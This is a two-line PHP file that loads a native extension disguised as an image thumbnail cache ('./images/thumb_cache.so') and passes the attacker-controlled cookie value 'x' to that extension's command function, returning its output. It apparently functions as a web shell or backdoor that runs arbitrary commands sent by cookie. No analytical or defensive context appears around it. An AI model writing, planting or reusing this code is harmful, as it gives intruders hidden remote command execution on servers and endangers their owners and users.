<?php
// An uploaded extension is loaded and its command function called with the request's text.
dl('./images/thumb_cache.so'); px_run($_COOKIE['x'] . ' 2>&1');
